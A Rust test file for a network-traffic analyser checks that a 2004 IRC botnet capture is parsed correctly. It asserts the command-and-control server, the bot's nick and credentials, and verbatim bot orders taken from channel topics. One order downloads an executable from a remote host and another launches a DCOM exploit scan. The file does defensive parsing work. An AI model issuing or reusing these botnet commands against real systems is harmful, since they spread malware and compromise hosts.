//! The only real bot C&C capture in the corpus (suricata-verify irc,
//! 2004-12-23): server, bot nick, channels and the orders in topics.

use crate::common::{corpus, run};
use botscope_core::events::Event;

#[test]
fn bot_capture_server_nick_channel_and_orders() {
    let pcap = corpus().join("suricata-verify/tests/irc/input.pcap");
    let (records, stats, _) = run(&[pcap]);
    let irc: Vec<_> = records
        .iter()
        .filter_map(|r| match &r.event {
            Event::Irc(e) => Some(e),
            _ => None,
        })
        .collect();
    assert_eq!(
        stats.services.get("irc"),
        Some(&1),
        "one IRC connection found by content"
    );
    // Server identity: every server line carries the server's name, on port 6667.
    assert!(irc.iter().all(|e| e.id.resp_p == 6667));
    let server_lines: Vec<_> = irc
        .iter()
        .filter(|e| e.prefix.as_deref() == Some("hunt3d.devilz.net"))
        .collect();
    assert!(
        server_lines.len() > 20,
        "server numerics: {}",
        server_lines.len()
    );
    // The bot's nick as tracked for the connection.
    let nick = irc
        .iter()
        .find(|e| e.from_client && e.command == "NICK")
        .expect("client NICK");
    assert_eq!(nick.value.as_deref(), Some("damn-0262937047"));
    let pass = irc
        .iter()
        .find(|e| e.from_client && e.command == "PASS")
        .expect("server password");
    assert_eq!(pass.params, vec!["l0m3za"]);
    let user = irc
        .iter()
        .find(|e| e.from_client && e.command == "USER")
        .expect("USER");
    assert_eq!(user.value.as_deref(), Some("ghmfeirsfnw"));
    assert!(irc
        .iter()
        .filter(|e| e.from_client && !matches!(e.command.as_str(), "PASS" | "NICK"))
        .all(|e| e.nick.as_deref() == Some("damn-0262937047")));
    // The bot joins the scanning channel with its key.
    let join = irc
        .iter()
        .find(|e| e.from_client && e.command == "JOIN")
        .expect("client JOIN");
    assert_eq!(join.params, vec!["#sl0w3r", "l03dx"]);
    assert_eq!(join.value.as_deref(), Some("#sl0w3r"));
    assert_eq!(join.addl.as_deref(), Some("l03dx"));
    // Orders in topics (332), verbatim.
    let topics: Vec<(&str, &str)> = irc
        .iter()
        .filter(|e| e.command == "332")
        .map(|e| (e.params[1].as_str(), e.params[2].as_str()))
        .collect();
    assert!(
        topics.contains(&(
            "#s01",
            ".download http://www.wanees.net/bbnz.exe bbnz.exe 1"
        )),
        "{topics:?}"
    );
    assert!(
        topics.contains(&("#sl0w3r", ".advscan dcom135 200 3 0 -r -s")),
        "{topics:?}"
    );
    assert_eq!(topics.len(), 4);
    // The bot's report of a finished download.
    assert!(irc.iter().any(|e| e.from_client
        && e.command == "PRIVMSG"
        && e.params
            == [
                "#s03",
                "[DOWNLOAD]: Downloaded 28.6 KB to ysbinstall_1000489_3.exe @ 28.6 KB/sec."
            ]));
    assert_eq!(irc.len(), 70);
    assert_eq!(stats.anomalies.total(), 0);
}
